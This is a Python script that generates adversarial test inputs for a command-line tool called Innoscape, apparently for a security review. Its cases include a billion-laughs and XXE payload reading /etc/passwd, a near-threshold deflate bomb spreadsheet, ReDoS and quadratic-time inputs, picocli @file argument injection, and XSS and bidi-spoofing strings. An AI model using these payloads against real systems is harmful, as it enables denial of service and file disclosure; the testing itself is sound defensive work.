#!/usr/bin/env python3
"""Writes the adversarial inputs for Innoscape's command line into inputs/ (beside this script).

Standard library only; nothing here runs Java. Each case gets a folder inputs/cNN_name/ holding the
files that run_attacks.sh hands to ./innoscape; FINDINGS.md says what each one aims at and why.

    python3 make_inputs.py               # every input (about 70 MB on disk, under a minute of CPU)
    python3 make_inputs.py --skip-big    # without c07's 36 MB near-threshold deflate bomb
    python3 make_inputs.py --only c04    # one case (prefix match)

Every file is kept under 50 MB. Inputs are deterministic (fixed seeds).
"""
import argparse
import os
import random
import re
import shutil
import sys
import zipfile

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.dirname(os.path.dirname(os.path.dirname(HERE)))  # the repository root
INPUTS = os.path.join(HERE, "inputs")
EXAMPLE = os.path.join(ROOT, "bundles/org.innoscape.examples/models/england-health-innovation-2021.innoscape")
EXAMPLE_REGISTERS = os.path.join(ROOT, "bundles/org.innoscape.examples/registers/england-health-innovation-2021")
TEMPLATE_XLSX = os.path.join(ROOT, "bundles/org.innoscape.examples/registers/registers-template.xlsx")

MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
MAX_FILE = 50 * 1024 * 1024


# ----------------------------------------------------------------------------------------------- helpers

def folder(case):
    path = os.path.join(INPUTS, case)
    if os.path.isdir(path):
        shutil.rmtree(path)
    os.makedirs(path)
    return path


def write_text(path, text, encoding="utf-8"):
    with open(path, "w", encoding=encoding, newline="") as f:
        f.write(text)


def write_bytes(path, data):
    with open(path, "wb") as f:
        f.write(data)


def xml_escape(text):
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


def column_letters(index):
    """0 -> A, 25 -> Z, 26 -> AA, 16383 -> XFD."""
    letters = ""
    index += 1
    while index:
        index, rest = divmod(index - 1, 26)
        letters = chr(ord("A") + rest) + letters
    return letters


def inline_cell(ref, text):
    return '<c r="%s" t="inlineStr"><is><t xml:space="preserve">%s</t></is></c>' % (ref, xml_escape(text))


def shared_cell(ref, index):
    return '<c r="%s" t="s"><v>%d</v></c>' % (ref, index)


def row_xml(number, cells):
    return '<row r="%d">%s</row>\n' % (number, "".join(cells))


SHEET_HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n<worksheet xmlns="%s"><sheetData>\n' % MAIN_NS
SHEET_TAIL = "</sheetData></worksheet>\n"

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default ContentType="application/vnd.openxmlformats-package.relationships+xml" Extension="rels"/>'
    '<Default ContentType="application/xml" Extension="xml"/>'
    '<Override ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml" PartName="/xl/workbook.xml"/>'
    '<Override ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml" PartName="/xl/worksheets/sheet1.xml"/>'
    '<Override ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml" PartName="/xl/styles.xml"/>'
    '%s</Types>')
SST_OVERRIDE = ('<Override ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml" '
                'PartName="/xl/sharedStrings.xml"/>')
ROOT_RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
             '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
             '<Relationship Id="rId1" Target="xl/workbook.xml" '
             'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"/></Relationships>')
WORKBOOK = ('<?xml version="1.0" encoding="UTF-8"?>'
            '<workbook xmlns="%s" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
            '<sheets><sheet name="%%s" r:id="rId1" sheetId="1"/></sheets></workbook>' % MAIN_NS)
WORKBOOK_RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                 '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                 '<Relationship Id="rId1" Target="worksheets/sheet1.xml" '
                 'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"/>'
                 '<Relationship Id="rId2" Target="styles.xml" '
                 'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles"/>'
                 '%s</Relationships>')
SST_REL = ('<Relationship Id="rId3" Target="sharedStrings.xml" '
           'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings"/>')


def template_styles():
    with zipfile.ZipFile(TEMPLATE_XLSX) as template:
        return template.read("xl/styles.xml")


def write_xlsx(path, sheet_chunks, shared_strings=None, sheet_name="initiatives", level=6):
    """A one-sheet workbook; sheet_chunks and shared_strings are str/bytes or iterables of them (streamed)."""
    def chunks(content):
        if isinstance(content, (str, bytes)):
            content = [content]
        for chunk in content:
            yield chunk.encode("utf-8") if isinstance(chunk, str) else chunk

    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as z:
        z.writestr("[Content_Types].xml", CONTENT_TYPES % (SST_OVERRIDE if shared_strings is not None else ""))
        z.writestr("_rels/.rels", ROOT_RELS)
        z.writestr("xl/workbook.xml", WORKBOOK % sheet_name)
        z.writestr("xl/_rels/workbook.xml.rels", WORKBOOK_RELS % (SST_REL if shared_strings is not None else ""))
        z.writestr("xl/styles.xml", template_styles())
        if shared_strings is not None:
            with z.open("xl/sharedStrings.xml", "w", force_zip64=True) as f:
                for chunk in chunks(shared_strings):
                    f.write(chunk)
        with z.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as f:
            for chunk in chunks(sheet_chunks):
                f.write(chunk)
    size = os.path.getsize(path)
    assert size < MAX_FILE, (path, size)


MODEL_HEAD = ('<?xml version="1.0" encoding="UTF-8"?>\n'
              '<innoscape:InnovationSystem xmi:version="2.0" xmlns:xmi="http://www.omg.org/XMI" '
              'xmlns:innoscape="http://innoscape.org/model/1.0"\n    id="%s" name="%s" modelVersion="2">\n')
MODEL_TAIL = "</innoscape:InnovationSystem>\n"


def write_model(path, model_id, name, body_chunks):
    with open(path, "w", encoding="utf-8", newline="\n") as f:
        f.write(MODEL_HEAD % (model_id, xml_escape(name)))
        for chunk in body_chunks:
            f.write(chunk)
        f.write(MODEL_TAIL)
    assert os.path.getsize(path) < MAX_FILE, path


def copy_example(destination):
    shutil.copyfile(EXAMPLE, destination)


def example_text():
    with open(EXAMPLE, encoding="utf-8") as f:
        return f.read()


# ----------------------------------------------------------------------------------------------- cases

def c01_many_owners():
    """40,000 initiatives, each naming a new owner: every new actor is compared with every earlier one."""
    d = folder("c01_many_owners")
    lines = ["id,name,owner,description"]
    for i in range(40000):
        lines.append("I%05d,Programme %05d,Owner organisation %05d,Support programme number %d for local innovators" % (i, i, i, i))
    write_text(os.path.join(d, "initiatives.csv"), "\n".join(lines) + "\n")


def c02_budget_spaces():
    """Budget cells '1<99,990 spaces>2': the range split regex \\s*-\\s*(?=\\d) backtracks quadratically."""
    d = folder("c02_budget_spaces")
    lines = ["id,name,budget,currency"]
    for i in range(20):
        lines.append("B%02d,Budget programme %d,1%s2,GBP" % (i, i, " " * 99990))
    write_text(os.path.join(d, "initiatives.csv"), "\n".join(lines) + "\n")


def c03_wide_header():
    """A header of 200,000 'Start Date' cells: each is looked up in the whole header (List.contains)."""
    d = folder("c03_wide_header")
    write_text(os.path.join(d, "initiatives.csv"), ",".join(["Start Date"] * 200000) + "\n")


def sst_xml11(strings_xml):
    """A shared-strings part declared XML 1.1, so that C0 control characters can be written as &#xN; references."""
    return ('<?xml version="1.1" encoding="UTF-8"?>\n<sst xmlns="%s" count="%d" uniqueCount="%d">%s</sst>\n'
            % (MAIN_NS, len(strings_xml), len(strings_xml), "".join("<si><t xml:space=\"preserve\">%s</t></si>" % s
                                                                     for s in strings_xml)))


def c04_xlsx_ctrl_strip():
    """One shared string of 99,999 U+0001 characters, used by 2,000 cells: stripping them is quadratic per cell."""
    d = folder("c04_xlsx_ctrl_strip")
    sst = sst_xml11(["&#x1;" * 99999])
    rows = [SHEET_HEAD, row_xml(1, [inline_cell("A1", "id"), inline_cell("B1", "name")])]
    for r in range(2, 2002):
        rows.append(row_xml(r, [inline_cell("A%d" % r, "C%04d" % r), shared_cell("B%d" % r, 0)]))
    rows.append(SHEET_TAIL)
    write_xlsx(os.path.join(d, "register.xlsx"), rows, sst)
    # The same written as Excel writes control characters in an XML 1.0 part: _x0001_ (POI decodes these escapes).
    sst_escaped = ('<?xml version="1.0" encoding="UTF-8"?>\n<sst xmlns="%s" count="1" uniqueCount="1"><si><t>%s</t></si></sst>\n'
                   % (MAIN_NS, "_x0001_" * 99999))
    write_xlsx(os.path.join(d, "register-x-escapes.xlsx"), rows, sst_escaped)


def c05_xlsx_xfd():
    """100,000 valid rows; row 2 also has a value in column XFD, so every later row is widened to 16,384 cells."""
    d = folder("c05_xlsx_xfd")

    def sheet():
        yield SHEET_HEAD
        yield row_xml(1, [inline_cell("A1", "id"), inline_cell("B1", "name")])
        yield row_xml(2, [inline_cell("A2", "X000002"), inline_cell("B2", "Programme 2"), inline_cell("XFD2", "far away")])
        for r in range(3, 100003):
            yield row_xml(r, [inline_cell("A%d" % r, "X%06d" % r), inline_cell("B%d" % r, "Programme %d" % r)])
        yield SHEET_TAIL
    write_xlsx(os.path.join(d, "register.xlsx"), sheet())


def c06_xlsx_sst_count():
    """A 1 kB workbook whose shared-strings table claims 2,147,483,647 entries (POI pre-sizes a list with it)."""
    d = folder("c06_xlsx_sst_count")
    sst = ('<?xml version="1.0" encoding="UTF-8"?>\n<sst xmlns="%s" count="2" uniqueCount="2147483647">'
           '<si><t>id</t></si><si><t>name</t></si></sst>' % MAIN_NS)
    rows = [SHEET_HEAD, row_xml(1, [shared_cell("A1", 0), shared_cell("B1", 1)]),
            row_xml(2, [inline_cell("A2", "S1"), inline_cell("B2", "Small programme")]), SHEET_TAIL]
    write_xlsx(os.path.join(d, "register.xlsx"), rows, sst)
    # the same with a negative count, for comparison (POI then throws an exception, which the reader does catch)
    write_xlsx(os.path.join(d, "register-negative-count.xlsx"), rows, sst.replace("2147483647", "-1"))


def c07_xlsx_near_bomb():
    """A 36 MB workbook whose one cell inflates to 2.16 billion characters at ~60:1, under POI's 100:1 zip-bomb limit."""
    d = folder("c07_xlsx_near_bomb")
    rnd = random.Random(7)
    alphabet = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
    # 4,096 distinct 1,000-byte blocks (985 spaces, 15 random letters), picked at random so that no block
    # repeats within deflate's 32 kB window: about 60:1, a steady compressed/uncompressed ratio of 0.0166 > 0.01.
    blocks = [b" " * 985 + bytes(rnd.choice(alphabet) for _ in range(15)) for _ in range(4096)]
    target = 2_160_000_000  # more than a Java array can hold (2^31 - 1)

    def sheet():
        yield SHEET_HEAD.encode()
        yield row_xml(1, [inline_cell("A1", "id"), inline_cell("B1", "name")]).encode()
        yield b'<row r="2"><c r="A2" t="inlineStr"><is><t>BOMB1</t></is></c><c r="B2" t="inlineStr"><is><t xml:space="preserve">'
        written = 0
        batch = []
        while written < target:
            batch.append(blocks[rnd.randrange(4096)])
            written += 1000
            if len(batch) == 4096:
                yield b"".join(batch)
                batch = []
        if batch:
            yield b"".join(batch)
        yield b"</t></is></c></row>\n"
        yield SHEET_TAIL.encode()
    write_xlsx(os.path.join(d, "register.xlsx"), sheet(), level=6)


def c08_xlsx_long_header():
    """A header cell of 1,000,000 characters (one shared string) over 20,000 rows whose cell in it is U+0001."""
    d = folder("c08_xlsx_long_header")
    sst = sst_xml11(["A" * 1000000, "&#x1;"])
    rows = [SHEET_HEAD, row_xml(1, [inline_cell("A1", "id"), inline_cell("B1", "name"), shared_cell("C1", 0)])]
    for r in range(2, 20002):
        rows.append(row_xml(r, [inline_cell("A%d" % r, "L%05d" % r), inline_cell("B%d" % r, "Programme %d" % r),
                                shared_cell("C%d" % r, 1)]))
    rows.append(SHEET_TAIL)
    write_xlsx(os.path.join(d, "register.xlsx"), rows, sst)


def c09_xxe():
    """Billion laughs and an external entity in a workbook's shared strings, and in a model read from stdin."""
    d = folder("c09_xxe")
    laughs = "".join('<!ENTITY l%d "%s">' % (i, ("&l%d;" % (i - 1)) * 10) for i in range(1, 10))
    doctype = ('<!DOCTYPE sst [<!ENTITY l0 "ha"> %s <!ENTITY xxe SYSTEM "file:///etc/passwd">]>' % laughs)
    sst = ('<?xml version="1.0" encoding="UTF-8"?>\n%s\n<sst xmlns="%s" count="2" uniqueCount="2">'
           '<si><t>&l9;</t></si><si><t>&xxe;</t></si></sst>' % (doctype, MAIN_NS))
    rows = [SHEET_HEAD, row_xml(1, [inline_cell("A1", "id"), inline_cell("B1", "name"), inline_cell("C1", "description")]),
            row_xml(2, [inline_cell("A2", "X1"), shared_cell("B2", 0), shared_cell("C2", 1)]), SHEET_TAIL]
    write_xlsx(os.path.join(d, "billion-laughs.xlsx"), rows, sst)
    model = ('<?xml version="1.0" encoding="UTF-8"?>\n'
             '<!DOCTYPE innoscape:InnovationSystem [<!ENTITY l0 "ha"> %s <!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
             '<innoscape:InnovationSystem xmi:version="2.0" xmlns:xmi="http://www.omg.org/XMI" '
             'xmlns:innoscape="http://innoscape.org/model/1.0" id="m" name="&l9;" description="&xxe;" modelVersion="2"/>\n'
             % laughs)
    write_text(os.path.join(d, "model-xxe.innoscape"), model)


def c10_deep_nesting():
    """A diagram whose nodes are nested 100,000 deep (DiagramNode.children is a containment of itself)."""
    d = folder("c10_deep_nesting")
    depth = 100000

    def body():
        yield '  <actors id="a1" name="Only actor" kind="NETWORK"/>\n'
        yield '  <diagrams id="d1" name="Deep" type="org.innoscape.diagram.stakeholderNetwork">\n'
        yield '    <nodes id="n0" mapping="actor" element="a1" width="130" height="52">'
        parts = []
        for i in range(1, depth):
            parts.append('<children id="n%d" mapping="actor">' % i)
            if len(parts) == 10000:
                yield "".join(parts)
                parts = []
        yield "".join(parts)
        yield "</children>" * (depth - 1)
        yield "</nodes>\n  </diagrams>\n"
    write_model(os.path.join(d, "deep.innoscape"), "deep-model", "Deeply nested diagram", body())
    write_text(os.path.join(d, "one.csv"), "id,name\nN1,New programme\n")


def c11_duplicate_ids():
    """Two actors with the same id; a relationship and an initiative refer to that id."""
    d = folder("c11_duplicate_ids")
    body = ['  <actors id="dup" name="First actor" kind="NETWORK"/>\n',
            '  <actors id="dup" name="Second actor" kind="REGULATOR"/>\n',
            '  <actors id="x" name="Other actor" kind="OTHER"/>\n',
            '  <relationships id="r1" source="dup" target="x" kind="FUNDS"/>\n',
            '  <initiatives id="i1" name="Programme owned by dup" owners="dup"/>\n',
            '  <initiatives id="i1" name="Second programme with the same id"/>\n']
    write_model(os.path.join(d, "dup.innoscape"), "dup-model", "Duplicate ids", body)


def c12_id_collision():
    """An initiatives register whose ids are the UUIDs of an existing actor and of an existing diagram node."""
    d = folder("c12_id_collision")
    text = example_text()
    actor = re.search(r'<actors id="([^"]+)"', text).group(1)
    node = re.search(r'<edges [^>]*source="([^"]+)"', text).group(1)
    write_text(os.path.join(d, "initiatives.csv"),
               "id,name,description\n%s,Shadow programme A,Has an actor's id\n%s,Shadow programme B,Has a diagram node's id\n"
               % (actor.upper(), node))
    copy_example(os.path.join(d, "example.innoscape"))


def c13_budget_exponent():
    """Budgets such as 1E+999999999 (accepted as a BigDecimal) and 1e309; models holding them."""
    d = folder("c13_budget_exponent")
    write_text(os.path.join(d, "initiatives.csv"),
               "id,name,budget,currency\nE1,Astronomical budget,1E+999999999,GBP\nE2,Ordinary budget,1000,GBP\n"
               "E3,Overflows a double,1e309,EUR\nE4,Tiny,1E-999999999,USD\n")
    write_model(os.path.join(d, "huge-sum.innoscape"), "huge-sum", "Two budgets to add", [
        '  <initiatives id="i1" name="Astronomical"><budget amount="1E+999999999" currency="GBP"/></initiatives>\n',
        '  <initiatives id="i2" name="Ordinary"><budget amount="1000" currency="GBP"/></initiatives>\n'])
    write_model(os.path.join(d, "huge-budget.innoscape"), "huge-budget", "One budget too long to print", [
        '  <initiatives id="i1" name="Astronomical"><budget amount="1E+2147483647" currency="GBP"/></initiatives>\n'])


def c14_diamond_chain():
    """1,100 diamonds in a row: the number of shortest paths (2^1100) overflows a double; plus a member_of cycle."""
    d = folder("c14_diamond_chain")
    k = 1100
    actors = ["id,name,kind,member_of", "S,Start,other,"]
    relationships = ["source,target,kind"]
    previous = "S"
    for i in range(k):
        a, b, m = "A%04d" % i, "B%04d" % i, "M%04d" % i
        actors += ["%s,Upper %04d,other," % (a, i), "%s,Lower %04d,other," % (b, i), "%s,Junction %04d,network," % (m, i)]
        relationships += ["%s,%s,funds" % (previous, a), "%s,%s,funds" % (previous, b), "%s,%s,funds" % (a, m),
                          "%s,%s,funds" % (b, m)]
        previous = m
    actors += ["C1,Cycle one,network,C2", "C2,Cycle two,network,C3", "C3,Cycle three,network,C1;C3"]
    write_text(os.path.join(d, "actors.csv"), "\n".join(actors) + "\n")
    write_text(os.path.join(d, "relationships.csv"), "\n".join(relationships) + "\n")


def c15_big_chain():
    """150,000 actors in one chain of 149,999 relationships: exact betweenness is O(V*E)."""
    d = folder("c15_big_chain")
    n = 150000

    def body():
        parts = []
        for i in range(n):
            parts.append('  <actors id="a%06d" name="Actor %06d" kind="OTHER"/>\n' % (i, i))
        yield "".join(parts)
        parts = []
        for i in range(n - 1):
            parts.append('  <relationships id="r%06d" source="a%06d" target="a%06d" kind="PARTNERS_WITH"/>\n' % (i, i, i + 1))
        yield "".join(parts)
        yield '  <initiatives id="i1" name="Only programme" owners="a000000"/>\n'
    write_model(os.path.join(d, "chain.innoscape"), "chain", "A long chain", body())


def c16_related_amplification():
    """4,000 initiatives whose isolated owner cannot reach a group of 4,000 members: 16 million related elements."""
    d = folder("c16_related_amplification")
    n = 4000

    def body():
        yield '  <actors id="o" name="Lonely owner" kind="OTHER"/>\n'
        yield "".join('  <actors id="m%04d" name="Member %04d" kind="OTHER"/>\n' % (i, i) for i in range(n))
        yield '  <stakeholderGroups id="g" name="Everyone" members="%s"/>\n' % " ".join("m%04d" % i for i in range(n))
        yield "".join('  <initiatives id="p%04d" name="Programme %04d" owners="o" targetGroups="g"/>\n' % (i, i) for i in range(n))
    write_model(os.path.join(d, "groups.innoscape"), "groups", "Unreachable group", body())


def c17_mapping_bypass():
    """A --map constant carrying U+0001 (never checked like a cell), and a model file name with U+0001."""
    d = folder("c17_mapping_bypass")
    write_text(os.path.join(d, "register.csv"), "id,name\nM1,Mapped programme\n")
    write_text(os.path.join(d, "evil.map"), "# constants are written into every row\n"
                                            "description := Looks harmless\u0001but is not\n"
                                            "technology_area := " + "x" * 150000 + "\n")
    write_text(os.path.join(d, "control-only.map"), "description := Looks harmless\u0001but is not\n")


def c18_at_files():
    """picocli expands @FILE arguments: a register named '@grants.csv' is replaced by the words of 'grants.csv'."""
    d = folder("c18_at_files")
    write_text(os.path.join(d, "@grants.csv"), "id,name\nAT1,The register the user meant\n")
    write_text(os.path.join(d, "grants.csv"), "decoy.csv\n")  # planted beside it: its words become the arguments
    write_text(os.path.join(d, "decoy.csv"), "id,name\nDECOY1,Injected programme\n")
    copy_example(os.path.join(d, "@m.innoscape"))
    write_text(os.path.join(d, "m.innoscape"), "--format html --output hijacked-report.html decoy.innoscape\n")
    write_model(os.path.join(d, "decoy.innoscape"), "decoy", "Decoy model", ['  <initiatives id="d1" name="Decoy"/>\n'])


def c19_lock_symlink():
    """Inputs for the lock-file symlink case (the link itself is made by run_attacks.sh in its work folder)."""
    d = folder("c19_lock_symlink")
    copy_example(os.path.join(d, "m.innoscape"))
    write_text(os.path.join(d, "one.csv"), "id,name\nN1,New programme\n")


def c20_cache_symlink():
    """Inputs for the embedding-cache symlink cases (links are made by run_attacks.sh)."""
    d = folder("c20_cache_symlink")
    copy_example(os.path.join(d, "a.innoscape"))
    shutil.copyfile(os.path.join(EXAMPLE_REGISTERS, "initiatives.csv"), os.path.join(d, "grants.csv"))


def c21_dedupe_staging():
    d = folder("c21_dedupe_staging")
    shutil.copyfile(os.path.join(EXAMPLE_REGISTERS, "initiatives.csv"), os.path.join(d, "grants.csv"))


def c22_json_edges():
    d = folder("c22_json_edges")
    copy_example(os.path.join(d, "example.innoscape"))


def c23_report_safety():
    """Names with bidi overrides, zero-width characters, markup and bare URLs; a model path with ' ', '#' and '%'."""
    d = folder("c23_report_safety")
    text = example_text()
    hostile = ("\u202eexe.gnp\u202c AHSN\u200b Network \u2066<script>alert(1)</script>\u2069 "
               "www.evil.example https://evil.example/login")
    text = text.replace('name="AHSN Network"', 'name="%s"' % xml_escape(hostile), 1)
    text = text.replace('name="Rapid Uptake Products programme"',
                        'name="%s"' % xml_escape("Rapid \u202eUptake\u202c Products <img src=x onerror=alert(1)> [x](http://evil)"), 1)
    write_text(os.path.join(d, "report safety #1 %zz.innoscape"), text)


def c24_lenient_values():
    """Values read leniently: a three-part budget range, an impossible time, ids that only differ invisibly."""
    d = folder("c24_lenient_values")
    rows = ["id,name,budget,start_date,end_date",
            "H01,Alpha programme,100 - 200 - 300,2021-04-30T99:99,2022",
            "H\u200b01,Alpha programme (id with a zero-width space),,,",
            "\u041d01,Alpha programme (id with a Cyrillic H),,,",
            "Caf\u00e9,Programme with an NFC id,,,",
            "Cafe\u0301,Programme with an NFD id,,,",
            "\uff28\uff10\uff11,Programme with a full-width id,,,"]
    write_text(os.path.join(d, "initiatives.csv"), "\n".join(rows) + "\n")


CASES = [c01_many_owners, c02_budget_spaces, c03_wide_header, c04_xlsx_ctrl_strip, c05_xlsx_xfd, c06_xlsx_sst_count,
         c07_xlsx_near_bomb, c08_xlsx_long_header, c09_xxe, c10_deep_nesting, c11_duplicate_ids, c12_id_collision,
         c13_budget_exponent, c14_diamond_chain, c15_big_chain, c16_related_amplification, c17_mapping_bypass, c18_at_files,
         c19_lock_symlink, c20_cache_symlink, c21_dedupe_staging, c22_json_edges, c23_report_safety, c24_lenient_values]


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--only", help="make only the cases whose name starts with this")
    parser.add_argument("--skip-big", action="store_true", help="skip c07 (36 MB, about 30 s of CPU)")
    args = parser.parse_args()
    for required in (EXAMPLE, EXAMPLE_REGISTERS, TEMPLATE_XLSX):
        if not os.path.exists(required):
            sys.exit("missing %s (run from the source tree's adversarial/ folder)" % required)
    os.makedirs(INPUTS, exist_ok=True)
    for case in CASES:
        if args.only and not case.__name__.startswith(args.only):
            continue
        if args.skip_big and case is c07_xlsx_near_bomb:
            print("skipped %s" % case.__name__)
            continue
        case()
        where = os.path.join(INPUTS, case.__name__)
        size = sum(os.path.getsize(os.path.join(p, f)) for p, _, fs in os.walk(where) for f in fs)
        print("%-28s %10d bytes  %s" % (case.__name__, size, (case.__doc__ or "").strip().splitlines()[0] if case.__doc__ else ""))


if __name__ == "__main__":
    main()
